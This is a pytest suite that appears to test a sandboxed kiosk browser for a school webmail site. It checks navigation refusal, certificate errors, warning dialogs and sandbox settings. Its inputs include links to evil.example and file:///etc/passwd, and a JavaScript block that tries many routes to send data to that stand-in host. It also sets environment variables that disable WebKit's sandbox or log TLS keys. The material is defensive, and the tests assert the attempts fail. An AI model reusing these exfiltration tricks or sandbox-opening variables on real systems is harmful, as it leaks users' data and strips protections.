"""The shell shows its site and nothing else, says why, and ends as it should.

Runs as: root, inside tests/throw-away-machine, where kiosk-browser is installed.
"""
import os
import pathlib
import signal
import subprocess

import pytest
from browser_rig import (
    ACCOUNT, GREEN, PAGES, PROGRAM, Answer, Browser, Display, account, big_link, display, page, site, wait_until,  # noqa: F401
    write_policy)
from webmail.serving.control import Control

START = f"https://{PAGES}/"
BAR = (600, 2)  # in the bar, away from its texts
RED, WHITE, GREY = "#ce0500", "#ffffff", "#f6f6f6"


@pytest.fixture
def foreign():
    """What the hostile hosts have seen since the test began."""
    with Control("foreign") as control:
        control.do("clear-log")
        yield lambda: [entry for entry in control.do("log") if "evil" in entry["host"] or "127.0.0.20" in entry["host"]]


@pytest.fixture
def start(display, site):
    """Starts the shell on the pages given by path, and waits until it is ready."""
    browsers = []

    def start(pages, ready=True, environment=None, decoy=None, **policy):
        site.pages = pages
        policy = {"start": START, "allow": PAGES, **policy}
        browser = Browser(write_policy(**policy), display, environment, decoy)
        browsers.append(browser)
        if ready:
            assert browser.receive() == "ready"
            display.wait_color(GREEN)
        return browser

    yield start
    for browser in browsers:
        browser.close()


def click(display, x=512, y=400):
    display.xdotool("mousemove", str(x), str(y), "click", "1")


def test_the_page_is_shown_below_a_calm_bar_and_the_end_leaves_with_zero(start, display):
    browser = start({"/": page("")})
    assert display.pixel(*BAR) == WHITE
    browser.send("end logout-button")
    assert browser.wait() == 0


def test_a_ping_is_answered(start):
    browser = start({"/": page("")})
    browser.send("ping")
    assert browser.receive() == "alive"


@pytest.mark.parametrize("packet", ["nonsense", "ready", "warn 0", "x" * 80])
def test_a_packet_that_is_no_message_ends_the_shell(start, packet):
    browser = start({"/": page("")})
    browser.send(packet)
    assert browser.wait() == 1


def test_a_closed_channel_ends_the_shell(start):
    browser = start({"/": page("")})
    browser.channel.close()
    assert browser.wait() == 1


@pytest.mark.parametrize("href, why", [
    ("https://evil.example/", "host is not on the list"),
    ("https://pages.academie.example.evil.example/", "host is not on the list"),
    ("https://pages.academie.example@evil.example/", "a user name stands before the host"),
    ("https://pages.academie.example:8443/", "port is not on the list"),
    ("http://pages.academie.example/", "not https"),
    ("mailto:quelqu.un@evil.example", "not https"),
    ("file:///etc/passwd", "not https"),
    ("view-source:https://pages.academie.example/", "not https"),
    ("webkit://gpu", "not https"),
])
def test_a_foreign_link_is_refused_and_explained(start, display, foreign, href, why):
    browser = start({"/": page(big_link(href))})
    click(display)
    if not href.startswith(("file:", "webkit:")):  # there WebKit itself does not even ask
        browser.wait_logged(f"navigation refused: {why}")
        display.wait_color(GREY, 5, 760)
    assert display.pixel(*BAR) == WHITE
    assert foreign() == []


def test_back_to_the_mail_shows_the_same_page_again(start, display, site):
    browser = start({"/": page(big_link("https://evil.example/"))})
    click(display)
    display.wait_color(GREY, 5, 760)
    asked = site.number()
    display.xdotool("key", "Return")
    display.wait_color(GREEN)
    assert site.number() == asked
    assert browser.process.poll() is None


@pytest.mark.parametrize("attributes", ['target="_blank"', 'onclick="window.open(this.href); return false"'])
def test_a_new_window_of_the_site_opens_in_place(start, display, site, attributes):
    start({"/": page(big_link("/other", attributes)), "/other": page("")})
    windows = display.windows()
    click(display)
    site.wait("/other")
    assert display.windows() == windows


@pytest.mark.parametrize("attributes", [
    'target="_blank"', 'onclick="window.open(this.href); return false"',
    'onclick="window.open(\'javascript:location=&quot;https://evil.example&quot;\'); return false"',
    'onclick="location = \'/redirect\'; return false"',
])
def test_a_new_window_elsewhere_stays_unborn(start, display, foreign, attributes):
    browser = start({"/": page(big_link("https://evil.example/", attributes)),
                     "/redirect": Answer(302, headers=[("Location", "https://evil.example/")])})
    windows = display.windows()
    click(display)
    if "javascript:" not in attributes:
        browser.wait_logged("navigation refused")
    browser.send("ping")
    assert browser.receive() == "alive"
    assert display.windows() == windows and foreign() == []


FOREIGN_REQUESTS = """
const evil = 'https://evil.example/';
const add = (tag, attributes) => document.body.append(Object.assign(document.createElement(tag), attributes));
add('img', {src: evil + 'a.png'}); add('script', {src: evil + 'b'}); add('iframe', {src: evil + 'c'});
add('link', {rel: 'stylesheet', href: evil + 'd'}); add('link', {rel: 'preconnect', href: evil});
add('link', {rel: 'dns-prefetch', href: evil}); add('link', {rel: 'prefetch', href: evil + 'e'});
add('video', {src: evil + 'f'}); add('object', {data: evil + 'g'}); add('iframe', {srcdoc: '<img src=' + evil + 'h>'});
add('iframe', {src: '/redirect'}); add('img', {src: '/redirect'});
fetch(evil + 'i').catch(() => 0); fetch('/redirect').catch(() => 0); navigator.sendBeacon?.(evil + 'j', 'x');
try { new WebSocket('wss://evil.example/k'); } catch {} try { new EventSource(evil + 'l'); } catch {}
new Worker(URL.createObjectURL(new Blob([`fetch('${evil}m').catch(() => 0)`])));
const form = add('form', {action: evil + 'n', method: 'post', target: 'frame'}); add('iframe', {name: 'frame'});
document.forms[0].submit();
setTimeout(() => fetch('/done'), 1500);
"""


def test_no_part_of_a_page_reaches_a_foreign_host(start, site, foreign):
    start({"/": page("", FOREIGN_REQUESTS), "/done": "", "/redirect": Answer(302, headers=[("Location", "https://evil.example/")])},
          ready=False)
    site.wait("/done")
    assert foreign() == []


@pytest.mark.parametrize("name, code", [
    ("expired", "TLS-EXPIRED"), ("wrong-host", "TLS-HOST"), ("self-signed", "TLS-AUTHORITY")])
def test_a_bad_certificate_is_final(start, display, name, code):
    host = f"{name}.academie.example"
    browser = start({}, ready=False, start=f"https://{host}/", allow=host)
    browser.wait_logged(f"load failed: {code}")
    display.wait_color(RED, *BAR)
    display.xdotool("key", "Return")  # the button there is tries again, and does not go on
    for attempt in (2, 3):
        wait_until(lambda: browser.logged().count(code) >= attempt, f"attempt {attempt}")
    display.wait_color(RED, *BAR)


def test_a_bad_certificate_on_the_way_cuts_the_page_off(start, display):
    browser = start({"/": page(big_link("https://expired.academie.example/"))}, allow=f"{PAGES} expired.academie.example")
    click(display)
    browser.wait_logged("load failed: TLS-EXPIRED")
    display.wait_color(RED, *BAR)
    assert display.pixel(512, 600) != GREEN
    display.xdotool("key", "Return")  # back to the mail
    display.wait_color(GREEN)
    assert display.pixel(*BAR) == WHITE


def test_a_server_that_comes_back_is_found_again(start, display, site):
    fault = {"status": 503}
    browser = start({"/": lambda request: Answer(503) if fault else page("")}, ready=False)
    browser.wait_logged("load failed: NET-SERVER")
    fault.clear()
    assert browser.receive() == "ready"
    display.wait_color(GREEN)


def test_nobody_listening_and_a_server_that_hangs_are_told(start):
    browser = start({}, ready=False, start="https://down.academie.example/", allow="down.academie.example")
    browser.wait_logged("load failed: NET-DOWN")
    browser.close()
    browser = start({}, ready=False, start="https://hang.academie.example/", allow="hang.academie.example")
    browser.wait_logged("load failed: NET-SILENT", seconds=90)


def test_a_start_page_that_leads_elsewhere_is_told(start, foreign):
    browser = start({"/": Answer(302, headers=[("Location", "https://evil.example/")])}, ready=False)
    browser.wait_logged("load failed: SITE-REDIRECT")
    assert foreign() == []


@pytest.mark.parametrize("headers", [
    [("Content-Disposition", "attachment; filename=a.html")], [("Content-Type", "application/x-unknown")]])
def test_a_file_is_refused(start, display, headers):
    kind = dict(headers).get("Content-Type", "text/html")
    browser = start({"/": page(big_link("/file")),
                     "/file": Answer(200, b"x" * 100, kind, [pair for pair in headers if pair[0] != "Content-Type"])})
    click(display)
    browser.wait_logged("file refused")
    display.wait_color(GREY, 5, 760)
    assert not list(pathlib.Path(account().pw_dir).glob("*"))


def test_a_dead_web_process_leaves_no_frame_and_asks_for_the_end(start, display):
    browser = start({"/": page("")})
    os.kill(browser.children("WebKitWebProces")[0], signal.SIGKILL)
    assert browser.receive() == "request-end crash-browser"
    assert display.pixel(512, 600) != GREEN
    browser.send("end crash-browser")
    assert browser.wait() == 0


def test_the_warning_hides_the_page_and_neither_space_nor_enter_answers_it(start, display):
    browser = start({"/": page('<input autofocus>')})
    browser.send("warn 25")
    display.wait_color(GREY, 5, 760)
    display.xdotool("key", "space", "Return", "KP_Enter")
    browser.send("ping")
    assert browser.receive() == "alive"  # and neither "stay" nor "request-end"
    browser.send("resume")
    display.wait_color(GREEN)


@pytest.mark.parametrize("keys, answer", [
    (["Tab", "Return"], "stay"), (["Tab", "Tab", "Return"], "request-end logout-button")])
def test_the_warning_is_answered_on_purpose(start, display, keys, answer):
    browser = start({"/": page("")})
    browser.send("warn 25")
    display.wait_color(GREY, 5, 760)
    display.xdotool("key", *keys)
    assert browser.receive() == answer


def test_a_list_of_the_page_does_not_stay_above_the_warning(start, display):
    browser = start({"/": page('<select style="position:fixed;inset:0 0 50% 0"><option>un<option>deux</select>')})
    windows = display.windows()
    click(display)
    wait_until(lambda: display.windows() != windows, "the list's window")
    browser.send("warn 25")
    wait_until(lambda: display.windows() == windows, "the list's window gone")


def test_the_button_and_its_keys_ask_for_the_end(start, display):
    browser = start({"/": page("")})
    click(display, 950, 30)
    assert browser.receive() == "request-end logout-button"
    browser.close()
    browser = start({"/": page("")})
    display.xdotool("key", "ctrl+alt+End")
    assert browser.receive() == "request-end logout-button"


def test_signing_out_of_the_webmail_asks_for_the_end(start, display, site):
    browser = start({"/": page(big_link("/mail")), "/mail": page(big_link("/"))},
                    mailbox_pages=f"{PAGES}/mail", logged_out_pages=PAGES)
    click(display)
    site.wait("/mail")
    display.wait_color(GREEN)
    wait_until(lambda: click(display) or site.number() and "asks for the end" in browser.logged(), "the logged-out page")
    assert browser.receive() == "request-end webmail-logout"


def test_a_storm_of_dialogs_stops_nothing(start):
    browser = start({"/": page("", "setTimeout(() => { for (;;) alert('x'); }, 300)")})
    browser.send("ping")
    assert browser.receive() == "alive"
    browser.send("end idle")
    assert browser.wait() == 0


def test_nothing_is_kept_and_nothing_of_the_page_is_logged(start, site):
    script = """localStorage.x = 'geheim'; document.cookie = 'x=geheim; max-age=99999'; caches.open('x');
        indexedDB.open('x').onsuccess = () => fetch('/done?token=geheim'); console.log('geheim')"""
    browser = start({"/": page("", script), "/done": ""})
    site.wait("/done")
    browser.send("end idle")
    assert browser.wait() == 0
    assert not [path for path in pathlib.Path(account().pw_dir).rglob("*") if path.is_file()]
    assert "geheim" not in browser.logged() and "/done" not in browser.logged()


def test_variables_that_open_the_sandbox_have_no_effect(start):
    browser = start({"/": page("")}, environment={
        "WEBKIT_DISABLE_SANDBOX_THIS_IS_DANGEROUS": "1", "SNAP": "/", "SNAP_NAME": "x", "SNAP_REVISION": "1",
        "GTK_DEBUG": "interactive", "WEBKIT_INSPECTOR_SERVER": "127.0.0.1:9000", "SSLKEYLOGFILE": "/tmp/keys"})
    status = pathlib.Path(f"/proc/{browser.children('WebKitWebProces')[0]}/status").read_text()
    assert "Seccomp:\t2" in status and "NoNewPrivs:\t1" in status
    assert not pathlib.Path("/tmp/keys").exists()
    assert subprocess.run(["ss", "-Hltn", "sport = :9000"], capture_output=True, check=True).stdout == b""


def test_web_processes_get_the_decoy_display(start):
    decoy = Display("16x16")
    try:
        browser = start({"/": page("")}, decoy=decoy)
        environment = pathlib.Path(f"/proc/{browser.children('WebKitWebProces')[0]}/environ").read_bytes()
        assert f"DISPLAY={decoy.name}".encode() in environment.split(b"\0")
        assert f"DISPLAY={browser.display.name}".encode() not in environment.split(b"\0")
        browser.send("end idle")
        assert browser.wait() == 0
    finally:
        decoy.close()


def test_root_a_foreign_policy_and_unknown_arguments_are_refused(display):
    assert subprocess.run([PROGRAM, "--channel-fd=3"], check=False, capture_output=True).returncode == 1
    policy = pathlib.Path("/tmp/own.conf")
    policy.write_text("")
    os.chown(policy, account().pw_uid, account().pw_gid)
    browser = Browser(policy, display)
    assert browser.wait() == 1 and "policy refused" in browser.logged()
    browser.close()
    done = subprocess.run(["setpriv", f"--reuid={ACCOUNT}", "--clear-groups", "--", PROGRAM, "--channel-fd=3", "--extra"],
                          check=False, capture_output=True, text=True)
    assert done.returncode == 1 and "argument refused" in done.stderr
